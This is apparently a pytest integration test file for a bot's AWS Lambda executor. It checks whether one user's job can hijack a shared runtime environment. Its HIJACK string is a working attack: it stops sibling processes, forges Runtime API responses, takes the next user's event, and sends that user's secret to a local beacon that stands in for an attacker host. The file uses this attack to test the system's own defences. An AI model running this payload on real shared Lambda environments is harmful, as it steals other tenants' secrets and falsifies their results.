"""The hijack of issue 9, run for real: user A's job stops every process it can signal,
answers its own invoke through the Runtime API, waits on /next and receives user B's event.

The stand-in's Runtime API behaves as rapid does (test_standin.py) and its environments are
microVM-like (a private network, the Runtime API at 127.0.0.1:9001, the runtime as uid 993).
Both directions are asserted, on a function without tenant isolation: against a
deliberately weakened handler (the job's defences off) the attack works, so the test can tell;
against the shipped handler it fails; with the network on, the shipped handler alone cannot
stop it (the documented limit). With per-user tenancy (the default) the two users never share
an environment, whatever the handler does.
"""

from __future__ import annotations

import json
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pytest

from bot.core.models import Outcome, RunResult
from bot.executors.aws_lambda.client import function_timeout_s
from bot.executors.aws_lambda.executor import LambdaExecutor, build_lambda_executor
from testbed.lambda_standin import LambdaStandIn
from testbed.waiting import wait_until
from tests.integration.lambda_executor.conftest import (
    JOB_TIMEOUT,
    job,
    lambda_settings,
    weakened_handler,
)

pytestmark = pytest.mark.usefixtures("aws_env")

# User A's job. Its input names the beacon (the stand-in's stand-in for the internet).
HIJACK = """\
import http.client, json, os, signal

def beacon(key):
    conn = http.client.HTTPConnection("127.0.0.1", beacon_port, timeout=10)
    conn.request("GET", "/beacon/" + key)
    conn.getresponse().read()

me, found = os.getpid(), {"stopped": [], "refused": []}
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != me:
        try:
            os.kill(int(name), signal.SIGSTOP)
            found["stopped"].append(int(name))
        except OSError as exc:
            found["refused"].append(exc.errno)
next_path = "/2018-06-01/runtime/invocation/next"
try:
    api = http.client.HTTPConnection("127.0.0.1", 9001, timeout=60)
    api.request("GET", next_path)  # during our own invoke: our own event again
    reply = api.getresponse()
    own, _ = reply.headers["Lambda-Runtime-Aws-Request-Id"], reply.read()
    forged = {"v": 1, "outcome": "ok", "result_json": '"fine"', "result_kind": "return",
              "stdout": "", "stderr": "", "stdout_truncated": False, "stderr_truncated": False,
              "error_type": None, "error_message": None, "traceback": None,
              "duration_ms": 1, "exit_code": 0, "signal": None}
    api.request("POST", f"/2018-06-01/runtime/invocation/{own}/response", json.dumps(forged))
    api.getresponse().read()
    api.request("GET", next_path)  # after our answer: whoever comes next
    reply = api.getresponse()
    theirs, event = reply.headers["Lambda-Runtime-Aws-Request-Id"], json.loads(reply.read())
    beacon("stopped-%d" % len(found["stopped"]))
    beacon("stolen-" + json.loads(event["input_json"])["secret"])
    forged.update(outcome="error", result_json=None, result_kind=None,
                  error_type="Hijacked", error_message="answered by user A")
    api.request("POST", f"/2018-06-01/runtime/invocation/{theirs}/response", json.dumps(forged))
    api.getresponse().read()
except OSError as exc:
    found["api"] = exc.errno
print(json.dumps(found))
"""
# User B's job: one line, with a secret in its input.
VICTIM = "def main(secret):\n    return 'B kept ' + secret\n"


@dataclass
class Attack:
    """What the two users got, and what reached the beacon."""

    a: RunResult
    b: RunResult
    secret: str
    standin: LambdaStandIn

    @property
    def stolen(self) -> bool:
        """B's input reached A's job."""
        return self.standin.beacons[f"stolen-{self.secret}"] > 0

    @property
    def b_genuine(self) -> bool:
        """B's own code answered B."""
        return self.b.outcome is Outcome.OK and self.b.result_json == json.dumps(
            f"B kept {self.secret}"
        )


def attack(standin: LambdaStandIn, executor: LambdaExecutor) -> Attack:
    """A's job, then, once the environment is ready again, B's."""
    _, beacon_port, _ = standin.beacon_url("")
    a = executor.run(job(HIJACK, json.dumps({"beacon_port": beacon_port}), owner="a"))
    wait_until(lambda: standin.ready_environments() >= 1, message="a ready runtime")
    secret = uuid.uuid4().hex
    b = executor.run(job(VICTIM, json.dumps({"secret": secret}), job_id=2, owner="b"))
    return Attack(a, b, secret, standin)


Make = Callable[..., tuple[LambdaStandIn, LambdaExecutor]]


@pytest.fixture
def stand_in(monkeypatch: pytest.MonkeyPatch) -> Iterator[Make]:
    """A factory of microVM-like stand-ins (one environment at a time) and their executor."""
    opened: list[tuple[LambdaStandIn, LambdaExecutor]] = []

    def make(
        *, weakened: bool, network: str = "off", tenancy: str = "shared"
    ) -> tuple[LambdaStandIn, LambdaExecutor]:
        standin = LambdaStandIn(
            timeout_s=function_timeout_s(JOB_TIMEOUT),
            max_concurrency=1,
            network="private",
            tenancy="per-tenant" if tenancy == "per-user" else "shared",
            **(weakened_handler() if weakened else {}),
        )
        monkeypatch.setenv("AWS_ENDPOINT_URL_LAMBDA", standin.endpoint_url)
        settings = lambda_settings(JOBBOT_LAMBDA_NETWORK=network, JOBBOT_LAMBDA_TENANCY=tenancy)
        executor = build_lambda_executor(settings)
        opened.append((standin, executor))
        return standin, executor

    yield make
    for standin, executor in opened:
        executor.close()
        standin.close()


def test_against_a_weakened_handler_the_next_users_job_reaches_the_first(stand_in: Make) -> None:
    standin, executor = stand_in(weakened=True)

    done = attack(standin, executor)

    assert done.a.result_json == '"fine"', standin.logs()  # A answered its own invoke
    assert standin.beacons["stopped-1"] == 1  # the runtime: the one process A could stop
    assert done.stolen  # B's code and input reached A's job
    assert (done.b.error_type, done.b.error_message) == ("Hijacked", "answered by user A")
    assert [r.environment for r in standin.records] == [0, 0]


def test_against_the_shipped_handler_the_attack_fails(stand_in: Make) -> None:
    standin, executor = stand_in(weakened=False)

    done = attack(standin, executor)

    assert done.a.outcome is Outcome.OK, standin.logs()
    found = json.loads(done.a.stdout)
    assert found["stopped"] == []
    assert found["api"] == 1  # EPERM: no socket to reach the Runtime API
    assert done.b_genuine and not done.stolen
    assert [r.environment for r in standin.records] == [0, 0]  # shared, and still safe


def test_with_the_network_on_the_shipped_handler_alone_cannot_stop_it(stand_in: Make) -> None:
    """What doctor and docs/security.md warn of: a job with Internet sockets reaches the
    Runtime API (no filter can tell its port from others). It cannot stop the runtime, but
    it needs not: it answers its own invoke and is waiting on /next while the runtime waits
    for it. Only separate environments per user help then."""
    standin, executor = stand_in(weakened=False, network="on")

    done = attack(standin, executor)

    assert done.a.result_json == '"fine"', standin.logs()
    assert standin.beacons["stopped-0"] == 1  # the filter held: nothing could be stopped
    assert done.stolen and done.b.error_message == "answered by user A"


@pytest.mark.parametrize("network", ["off", "on"])
def test_with_per_user_tenancy_the_two_users_never_share_an_environment(
    stand_in: Make, network: str
) -> None:
    """The default: whatever the handler does (here: nothing, its defences off), B's invoke
    goes to B's own environment, and A is left waiting on /next in its own."""
    standin, executor = stand_in(weakened=True, network=network, tenancy="per-user")

    done = attack(standin, executor)

    assert done.a.result_json == '"fine"', standin.logs()  # A still answered its own invoke
    assert done.b_genuine and not done.stolen
    assert [r.environment for r in standin.records] == [0, 1]
    assert standin.environment(0).tenant_id != standin.environment(1).tenant_id
